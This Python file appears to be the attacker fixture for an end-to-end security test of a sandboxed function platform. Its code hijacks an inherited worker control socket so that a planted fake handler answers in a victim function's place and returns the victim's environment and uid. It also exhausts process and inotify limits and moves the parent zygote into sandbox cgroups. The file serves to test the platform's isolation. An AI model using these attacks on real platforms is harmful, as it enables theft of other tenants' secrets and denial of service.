# The attacker's package for e2e/attack_test.go: its import code runs in
# a zygote node (a fork of the root zygote), as any package's would. The
# test appends a call of main() with the attacks to run.
#
# REPORT says what the node holds that it should not: descriptors it
# inherited from the zygote it was forked from. If one of them is a
# control socket to the worker (the root zygote's fd 3), a daemon forked
# here serves it with the zygote's own server loop (__main__.serve), so
# that every request it takes from the worker (a fork or a spare for any
# function that starts from the root zygote) is served by a child of this
# package's node; a handler module planted under the victim's module
# name ("f") answers in the victim's place with its environment and uid.
import ctypes
import os
import socket
import sys
import time
import types

STOLEN = "hearth-attack-stolen"
REPORT = {"fds": {}, "thief": "not started"}


def _fds():
    out = {}
    for name in os.listdir("/proc/self/fd"):
        try:
            out[name] = os.readlink("/proc/self/fd/" + name)
        except OSError as e:
            out[name] = "error " + e.strerror
    return out


def _fake_handler(event, context=None):
    return {"stolen_by": STOLEN, "env": dict(os.environ), "uid": os.getuid()}


def _start_thief():
    main = sys.modules.get("__main__")
    if not hasattr(main, "serve"):
        REPORT["thief"] = "no zygote server in __main__"
        return
    try:
        s = socket.socket(fileno=os.dup(3))
    except OSError as e:
        REPORT["thief"] = "fd 3: " + e.strerror
        return
    if s.type != socket.SOCK_SEQPACKET:
        REPORT["thief"] = "fd 3 is not a control socket (type %d)" % s.type
        s.detach()
        return
    pid = os.fork()
    if pid == 0:
        try:
            fake = types.ModuleType("f")
            fake.f = _fake_handler
            sys.modules["f"] = fake
            main.serve(s)
        finally:
            os._exit(0)
    s.close()
    REPORT["thief"] = "serving fd 3 (pid %d)" % pid


def _forks(cap):
    """Fork up to cap processes that wait on a pipe, count them, and let
    them go: how many processes the node may hold at once."""
    r, w = os.pipe()
    n, why = 0, "cap %d reached" % cap
    kids = []
    while n < cap:
        try:
            pid = os.fork()
        except OSError as e:
            why = e.strerror
            break
        if pid == 0:
            try:
                os.close(w)
                os.read(r, 1)
            finally:
                os._exit(0)
        kids.append(pid)
        n += 1
    os.close(r)
    os.close(w)
    for pid in kids:
        try:
            os.waitpid(pid, 0)
        except ChildProcessError:
            pass
    REPORT["forks"] = {"n": n, "why": why}


HOLDER = b"hearthholder"


def _inotify(cap, hold_s):
    """Fork a holder that takes up to cap inotify instances (charged to
    the zygotes' user, which every forked function's are charged to as
    well) and keeps them hold_s seconds, or until killed; it is named
    HOLDER so the test can find and kill it."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(r)
            libc = ctypes.CDLL(None, use_errno=True)
            libc.prctl(15, HOLDER, 0, 0, 0)  # PR_SET_NAME
            n, why = 0, "cap %d reached" % cap
            held = []
            while n < cap:
                fd = libc.inotify_init1(0o2000000)
                if fd < 0:
                    why = os.strerror(ctypes.get_errno())
                    break
                held.append(fd)
                n += 1
            os.write(w, ("%d %s" % (n, why)).encode())
            os.close(w)
            time.sleep(hold_s)
        finally:
            os._exit(0)
    os.close(w)
    got = os.read(r, 256).decode()
    os.close(r)
    n, _, why = got.partition(" ")
    REPORT["inotify"] = {"n": int(n or 0), "why": why}


def _movecg():
    """Patch the node's forks and spares so that, with each cgroup.procs
    descriptor the worker hands it for a sandbox, it also moves its parent
    zygote (the root zygote, same uid) into that sandbox's cgroup."""
    main = sys.modules.get("__main__")
    parent = os.getppid()

    def patch(name, lead):
        orig = getattr(main, name)

        def fork(req, fds):
            ncg = int(req.get("ncg", 0))
            for fd in fds[lead + 4:lead + 4 + ncg]:
                try:
                    os.write(fd, str(parent).encode())
                    REPORT.setdefault("moved", []).append(name + " ok")
                except OSError as e:
                    REPORT.setdefault("moved", []).append(name + " " + e.strerror)
            return orig(req, fds)
        setattr(main, name, fork)
    patch("child_fork", 1)
    patch("spare_fork", 0)
    REPORT["movecg"] = "patched (parent %d)" % parent


def main(attacks):
    if "HEARTH_FUNCTION" in os.environ:
        return  # imported by a function, not by a node
    REPORT["fds"] = _fds()
    # First: with SIGCHLD ignored (as in every zygote), its waits wait for
    # every child of the node.
    if "forks" in attacks:
        _forks(attacks["forks"])
    if "thief" in attacks:
        _start_thief()
    if "inotify" in attacks:
        _inotify(attacks["inotify"], 60)
    if "movecg" in attacks:
        _movecg()
